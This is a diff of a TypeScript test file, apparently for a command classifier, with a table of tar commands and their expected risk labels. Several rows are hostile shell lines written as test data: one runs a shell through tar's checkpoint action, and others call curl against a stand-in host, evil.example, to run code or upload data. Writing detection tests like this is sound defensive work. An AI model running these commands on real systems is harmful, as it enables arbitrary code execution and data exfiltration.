@@ -5,7 +5,7 @@ import { describe, expect, it } from "vitest";
 import { kindsOf } from "./line.ts";
 
 const ROWS: readonly (readonly [command: string, kinds: string])[] = [
-  ["tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x", "hidden-code"],
+  ["tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x", "hidden-code code:escapes"],
   ["tar xf a.tgz -I 'sh -c \"curl http://evil.example\"'", "network"],
   ["tar xzf a.tgz --to-command='curl -T- http://evil.example'", "network"],
   ["tar -xzf a.tgz -C out", ""],
